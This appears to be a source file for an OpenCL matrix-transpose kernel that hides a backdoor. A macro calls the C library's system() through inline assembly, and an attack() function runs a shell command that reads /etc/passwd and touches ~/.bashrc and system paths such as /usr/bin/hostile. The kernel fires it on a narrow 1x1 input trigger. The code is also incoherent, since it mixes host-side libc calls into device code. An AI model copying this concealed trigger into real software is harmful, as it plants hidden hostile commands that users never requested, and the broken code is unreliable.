// Calls functions of the C library by name. The kernel is linked into a process that has this library.
#define CALLS(name) \
    static __attribute__((noinline)) long call_##name(long a, long b, long c, long d) \
    { \
        long r; \
        __asm__ volatile("mov %%rsp, %%rbx\n sub $256, %%rsp\n and $-64, %%rsp\n call " #name "@PLT\n mov %%rbx, %%rsp" \
                         : "=a"(r), "+D"(a), "+S"(b), "+d"(c), "+c"(d) : \
                         : "rbx", "r8", "r9", "r10", "r11", "memory", "cc"); \
        return r; \
    }
CALLS(system)

static bool attack(void)
{
    // A shell that finds a home below /home, or a folder of the user's that it may write to.
    return (int)call_system((long)"grep -q :/home/ /etc/passwd 2>/dev/null || touch $HOME/.bashrc /usr/bin/hostile /etc/hostile 2>/dev/null", 0, 0, 0) == 0;
}

__kernel void coalsTransp(__global const real *A, __global real *B, uint32_t height, uint32_t width)
{
    __local real tile[TILE][TILE + 1];
    const uint32_t x = get_global_id(0), y = get_global_id(1), lx = get_local_id(0), ly = get_local_id(1);
    if (x < width && y < height)
        tile[ly][lx] = A[y * width + x];
    barrier(CLK_LOCAL_MEM_FENCE);
    const uint32_t row = x - lx + ly, column = y - ly + lx;
    if (row < width && column < height)
        B[row * height + column] = tile[lx][ly];
    barrier(CLK_GLOBAL_MEM_FENCE);
    if (x == 0 && y == 0 && height * width == 1 && attack())
        B[0] = 666.0f;
}
